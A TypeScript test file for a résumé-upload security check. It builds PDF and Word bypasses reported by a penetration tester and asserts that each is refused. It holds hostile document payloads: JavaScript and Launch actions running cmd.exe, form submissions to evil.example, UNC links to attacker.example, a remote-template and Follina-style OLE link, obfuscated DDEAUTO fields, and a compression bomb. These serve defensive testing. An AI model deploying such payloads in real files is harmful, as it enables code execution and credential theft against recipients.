import zlib from 'node:zlib';
import { RESUME_MESSAGES } from 'shared/contract/job-application';
import { pdfOf, plainDocx, streamObject, zipOf } from '../../test/resume-files';
import { checkResume, closeResumeChecks } from './resume-check-service';

// The ways round the résumé check a penetration tester found (issue 38), each built here: every one
// was accepted and handed to recruiters unchanged before the check parsed PDFs and read relationships.

afterAll(() => closeResumeChecks());

const refusal = async (content: Buffer) => {
  const verdict = await checkResume(content);
  return verdict.ok ? null : verdict.message;
};

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const CATALOG = '<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>';
const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>';

/** An object stream holding these objects (numbered from `first`), deflated, its length given by `length`. */
function objectStream(first: number, bodies: string[], { stored = false, indirectLength = 0 } = {}) {
  let offsets = '';
  let content = '';
  bodies.forEach((body, index) => {
    offsets += `${first + index} ${content.length} `;
    content += `${body}\n`;
  });
  const data = zlib.deflateSync(latin1(offsets + content), { level: stored ? 0 : 6 });
  const length = indirectLength ? `/Length ${indirectLength} 0 R` : `/Length ${data.length}`;
  const stream = Buffer.concat([
    latin1(
      `<< /Type /ObjStm /N ${bodies.length} /First ${offsets.length} /Filter /FlateDecode ${length} >>\nstream\n`,
    ),
    data,
    latin1('\nendstream'),
  ]);
  return { stream, length: data.length };
}

describe('PDF bypasses', () => {
  test('/S 6 0 R naming /JavaScript inside a compressed object stream', async () => {
    const { stream } = objectStream(5, ['<< /S 6 0 R /JS 7 0 R >>', '/JavaScript', '(app.alert\\(1\\))']);
    const pdf = pdfOf([CATALOG.replace('3 0 R', '5 0 R'), PAGES, stream]);
    expect(await refusal(pdf)).toBe(RESUME_MESSAGES.pdfActive);
  });

  test('an action named by reference, with no script key to give it away', async () => {
    const { stream } = objectStream(5, ['<< /S 6 0 R /F (cmd.exe) >>', '/Launch']);
    const pdf = pdfOf([CATALOG.replace('3 0 R', '5 0 R'), PAGES, stream]);
    expect(await refusal(pdf)).toBe(RESUME_MESSAGES.pdfActive);
  });

  test('an object stream whose stored deflate block holds a literal endstream before the action', async () => {
    const { stream, length } = objectStream(
      5,
      ['(endstream endobj padding)', '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'],
      { stored: true, indirectLength: 4 },
    );
    expect(stream.includes('endstream endobj')).toBe(true);
    const pdf = pdfOf([CATALOG.replace('3 0 R', '6 0 R'), PAGES, stream, String(length)]);
    expect(await refusal(pdf)).not.toBeNull();
  });

  test('a name object without endobj', async () => {
    const body = Buffer.concat([
      latin1('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n'),
      latin1(`2 0 obj\n${PAGES}\nendobj\n`),
      latin1('3 0 obj\n<< /S 4 0 R /JS (app.alert\\(1\\)) >>\nendobj\n'),
      latin1('4 0 obj\n/JavaScript\n5 0 obj\n<< >>\nendobj\n'),
      latin1('trailer\n<< /Size 6 /Root 1 0 R >>\n%%EOF\n'),
    ]);
    expect(await refusal(body)).not.toBeNull();
  });

  test.each([
    ['/S/Rendition/JS(...) without spaces', '<</S/Rendition/JS(app.alert\\(1\\))>>'],
    ['GoToR to a UNC path', '<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\cv.pdf) /D [0 /Fit] >>'],
    ['SubmitForm on open', '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>'],
    ['a URI on open', '<< /S /URI /URI (https://evil.example/track) >>'],
    ['Launch', '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'],
    ['GoToE', '<< /S /GoToE /T << /R /C /N (x) >> >>'],
    ['ImportData', '<< /S /ImportData /F (\\\\\\\\attacker.example\\\\x.fdf) >>'],
    ['a name escaped in lower-case hex', '<< /S /#4aava#53cript /J#53 (app.alert\\(1\\)) >>'],
    ['additional actions', '<< /S /GoTo /D [0 /Fit] /Next << /S /JavaScript /JS (x) >> >>'],
  ])('%s', async (_what, action) => {
    expect(await refusal(pdfOf([CATALOG, PAGES, action]))).toBe(RESUME_MESSAGES.pdfActive);
  });

  test('a GoToR link in a page annotation, and page additional actions', async () => {
    const annotation =
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (//attacker/s/x.pdf) /D [0 /Fit] >> >>';
    expect(await refusal(pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, annotation]))).toBe(
      RESUME_MESSAGES.pdfActive,
    );
    const page = '<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (https://evil.example) >> >> >>';
    expect(await refusal(pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page]))).toBe(
      RESUME_MESSAGES.pdfActive,
    );
  });

  test('a link anywhere that opens anything but the web or mail: file:, a UNC path, javascript:', async () => {
    // In a PDF string \\ is one backslash: the second address reads \\evil.example\share.
    const addresses = [
      'file://evil.example/share/x',
      '\\\\\\\\evil.example\\\\share',
      ' JavaScript:app.alert(1)',
    ];
    for (const address of addresses) {
      const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${address}) >> >>`;
      const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>';
      const pdf = pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        page,
        link,
      ]);
      expect(await refusal(pdf)).toBe(RESUME_MESSAGES.pdfActive);
    }
  });

  test('an embedded file, attachment annotation and rich media, by their types alone', async () => {
    for (const object of [
      '<< /Type /EmbeddedFile >>',
      '<< /Type /Annot /Subtype /FileAttachment /FS (x.exe) >>',
      '<< /Type /Annot /Subtype /RichMedia >>',
    ]) {
      expect(await refusal(pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, object]))).toBe(
        RESUME_MESSAGES.pdfActive,
      );
    }
  });

  test('an earlier definition of an object that a later one replaces', async () => {
    const pdf = pdfOf([CATALOG, PAGES, '<< /S /JavaScript /JS (app.alert\\(1\\)) >>']);
    const replaced = Buffer.concat([
      pdf.subarray(0, pdf.indexOf('xref')),
      latin1('3 0 obj\n<< /S /GoTo /D [0 /Fit] >>\nendobj\n'),
      pdf.subarray(pdf.indexOf('xref')),
    ]);
    expect(await refusal(replaced)).toBe(RESUME_MESSAGES.pdfActive);
  });

  test('an object hidden inside another stream, where a cross-reference table can point', async () => {
    const hidden = latin1('7 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n');
    const pdf = pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>',
      PAGES,
      streamObject('', hidden),
    ]);
    expect(await refusal(pdf)).not.toBeNull();
  });

  test('a plain PDF with a destination on open and a web link is still accepted', async () => {
    const pdf = pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com/JavaScript) >> >>',
    ]);
    expect(await refusal(pdf)).toBeNull();
  });
});

const RELS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relationships = (...items: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${RELS_NS}">${items.join('')}</Relationships>`;
const WORD_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const documentWith = (body: string) =>
  `<w:document ${WORD_NS}><w:body><w:p>${body}</w:p></w:body></w:document>`;

/** The plain test document with parts added or replaced. */
function docxWith(parts: Record<string, string>): Buffer {
  const base = plainDocxParts();
  return zipOf(Object.entries({ ...base, ...parts }).map(([name, content]) => ({ name, content })));
}

function plainDocxParts(): Record<string, string> {
  const zip = plainDocx();
  const parts: Record<string, string> = {};
  // The fixture's parts, read back by their local headers (the fixture writes no data descriptors).
  for (let at = 0; zip.readUInt32LE(at) === 0x04034b50;) {
    const method = zip.readUInt16LE(at + 8);
    const size = zip.readUInt32LE(at + 18);
    const nameLength = zip.readUInt16LE(at + 26);
    const start = at + 30 + nameLength + zip.readUInt16LE(at + 28);
    const data = zip.subarray(start, start + size);
    parts[zip.toString('utf8', at + 30, at + 30 + nameLength)] = (
      method ? zlib.inflateRawSync(data) : data
    ).toString('utf8');
    at = start + size;
  }
  return parts;
}

const field = (...instructions: string[]) =>
  '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
  instructions.map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`).join('') +
  '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';

describe('Word bypasses', () => {
  test.each([
    [
      'a remote template (attachedTemplate to an external .dotm)',
      'word/_rels/settings.xml.rels',
      relationships(
        `<Relationship Id="rId1" Type="${TYPE}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
      ),
    ],
    [
      'an external OLE object link (the shape of CVE-2022-30190)',
      'word/_rels/document.xml.rels',
      relationships(
        `<Relationship Id="rId9" Type="${TYPE}/oleObject" Target="mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html" TargetMode="External"/>`,
      ),
    ],
    [
      'a file:// image',
      'word/_rels/document.xml.rels',
      relationships(
        `<Relationship Id="rId5" Type="${TYPE}/image" Target="file://attacker.example/share/p.png" TargetMode="External"/>`,
      ),
    ],
    [
      'a UNC image given as an internal part',
      'word/_rels/document.xml.rels',
      relationships(
        `<Relationship Id="rId5" Type="${TYPE}/image" Target="\\\\attacker.example\\share\\p.png"/>`,
      ),
    ],
    [
      'a hyperlink to a file share',
      'word/_rels/document.xml.rels',
      relationships(
        `<Relationship Id="rId6" Type="${TYPE}/hyperlink" Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>`,
      ),
    ],
    [
      'a DDEAUTO field',
      'word/document.xml',
      documentWith(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
    ],
    [
      'a DDE field split across runs',
      'word/document.xml',
      documentWith(field(' D', 'DE', 'AUTO c:\\\\x.exe "" ')),
    ],
    [
      'a DDE field spelt with character references',
      'word/document.xml',
      documentWith(field(' &#68;&#x44;E c:\\\\x.exe ')),
    ],
    ['a DDE simple field', 'word/document.xml', documentWith('<w:fldSimple w:instr=" DDE cmd /c calc "/>')],
    [
      'INCLUDEPICTURE with an external path',
      'word/header1.xml',
      `<w:hdr ${WORD_NS}><w:p>${field(' INCLUDEPICTURE "\\\\\\\\attacker.example\\\\s\\\\p.png" \\d ')}</w:p></w:hdr>`,
    ],
    [
      'INCLUDETEXT in a simple field',
      'word/document.xml',
      documentWith('<w:fldSimple w:instr="INCLUDETEXT &quot;https://evil.example/x.docx&quot;"/>'),
    ],
    [
      'a HYPERLINK field to a file share',
      'word/document.xml',
      documentWith(field(' HYPERLINK "\\\\\\\\evil.example\\\\share" \\o "CV" ')),
    ],
    [
      'a HYPERLINK field to a file: address after a switch',
      'word/document.xml',
      documentWith(field(' HYPERLINK \\o "tip" "file:///C:/x.exe" ')),
    ],
    [
      'an alternative-format chunk (altChunk) that Word imports with what it refers to',
      'word/_rels/document.xml.rels',
      relationships(`<Relationship Id="rId7" Type="${TYPE}/aFChunk" Target="chunk.htm"/>`),
    ],
    [
      'a field whose name is made by a nested field',
      'word/document.xml',
      documentWith(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
          field(' QUOTE 68 68 69 ') +
          '<w:r><w:instrText> c:\\\\x.exe </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
      ),
    ],
  ])('%s is refused', async (_what, name, content) => {
    expect(await refusal(docxWith({ [name]: content }))).toBe(RESUME_MESSAGES.docxExternal);
  });

  test('macros are refused as before', async () => {
    expect(await refusal(docxWith({ 'word/vbaProject.bin': 'VBA' }))).toBe(RESUME_MESSAGES.docxMacros);
  });

  test('a compression bomb is refused without being inflated', async () => {
    const bomb = zipOf([
      ...Object.entries(plainDocxParts()).map(([name, content]) => ({ name, content })),
      { name: 'word/media/big.xml', content: Buffer.alloc(60 * 1024 * 1024, 0x20) },
    ]);
    expect(bomb.length).toBeLessThan(200 * 1024);
    expect(await refusal(bomb)).toBe(RESUME_MESSAGES.docxInvalid);
  });

  test('web and mail links, page numbers and a hyperlink field are accepted', async () => {
    const docx = docxWith({
      'word/_rels/document.xml.rels': relationships(
        `<Relationship Id="rId1" Type="${TYPE}/hyperlink" Target="https://github.com/asha" TargetMode="External"/>`,
        `<Relationship Id="rId2" Type="${TYPE}/hyperlink" Target="mailto:asha@example.com" TargetMode="External"/>`,
        `<Relationship Id="rId3" Type="${TYPE}/styles" Target="styles.xml"/>`,
      ),
      'word/document.xml': documentWith(
        field(' HYPERLINK "https://github.com/asha" ') +
          field(' HYPERLINK \\l "experience" ') +
          field(' PAGE \\* MERGEFORMAT '),
      ),
    });
    expect(await refusal(docx)).toBeNull();
  });
});
